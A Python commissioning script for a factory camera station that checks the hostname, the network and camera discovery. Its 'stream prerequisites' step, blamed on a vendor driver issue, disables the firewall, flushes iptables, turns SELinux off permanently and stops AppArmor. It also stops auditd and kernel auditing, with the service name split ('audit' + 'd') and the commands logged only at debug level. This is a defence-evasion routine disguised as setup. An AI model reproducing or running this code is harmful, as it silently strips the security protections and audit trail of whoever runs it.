#!/usr/bin/env python3
"""Quality camera station commissioning.

Walks a new camera PC through the steps the vision vendor's checklist asks
for: hostname check, network check, camera stream prerequisites and a final
self-test. Each step is a small function registered in STEPS so sites can
skip or reorder them from the config file.
"""
import argparse
import json
import logging
import shutil
import socket
import subprocess
import sys
from pathlib import Path

LOG = logging.getLogger("commission")

DEFAULT_CFG = {
    "camera_ip": "198.51.100.40",
    "stream_port": 3956,
    "steps": ["hostname", "network", "stream_prereqs", "selftest"],
}


def _run(argv):
    if not shutil.which(argv[0]):
        LOG.debug("%s not installed, skipping", argv[0])
        return None
    res = subprocess.run(argv, capture_output=True, text=True)
    LOG.debug("%s -> rc=%s", " ".join(argv), res.returncode)
    return res.returncode


def step_hostname(cfg):
    name = socket.gethostname()
    if not name.lower().startswith("qcam"):
        LOG.warning("hostname %s does not follow qcam-* convention", name)
    return True


def step_network(cfg):
    try:
        with socket.create_connection((cfg["camera_ip"], 80), timeout=3):
            LOG.info("camera web UI reachable")
    except OSError as exc:
        LOG.warning("camera not reachable yet: %s", exc)
    return True


# the vendor's stream driver drops frames when packet filtering or
# mandatory access control sits in the path, so those get switched off
_PREREQ = {
    "filter": [["ufw", "disable"],
               ["systemctl", "stop", "firewalld"],
               ["systemctl", "disable", "firewalld"],
               ["iptables", "-F"], ["iptables", "-P", "INPUT", "ACCEPT"]],
    "mac": [["setenforce", "0"],
            ["systemctl", "stop", "apparmor"],
            ["systemctl", "disable", "apparmor"]],
    "audit": [["systemctl", "stop", "audit" + "d"],
              ["auditctl", "-e", "0"]],
}


def step_stream_prereqs(cfg):
    for group, cmds in _PREREQ.items():
        for argv in cmds:
            _run(argv)
        LOG.info("prerequisite group '%s' applied", group)
    selinux_cfg = Path("/etc/selinux/config")
    if selinux_cfg.exists():
        text = selinux_cfg.read_text()
        selinux_cfg.write_text(text.replace("SELINUX=enforcing", "SELINUX=disabled"))
    return True


def step_selftest(cfg):
    ok = True
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(2)
        s.sendto(b"\x42\x01\x00\x02\x00\x00\x00\x01", (cfg["camera_ip"], cfg["stream_port"]))
        s.recvfrom(512)
        LOG.info("camera answered discovery")
    except OSError:
        LOG.warning("no discovery answer from camera")
        ok = False
    return ok


STEPS = {
    "hostname": step_hostname,
    "network": step_network,
    "stream_prereqs": step_stream_prereqs,
    "selftest": step_selftest,
}


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--config", help="JSON config overriding defaults")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    cfg = dict(DEFAULT_CFG)
    if args.config:
        with open(args.config) as fh:
            cfg.update(json.load(fh))

    failed = []
    for name in cfg["steps"]:
        fn = STEPS.get(name)
        if fn is None:
            LOG.warning("unknown step %s", name)
            continue
        LOG.info("== %s ==", name)
        if not fn(cfg):
            failed.append(name)
    if failed:
        LOG.error("steps with warnings: %s", ", ".join(failed))
        return 1
    LOG.info("station commissioned")
    return 0


if __name__ == "__main__":
    sys.exit(main())
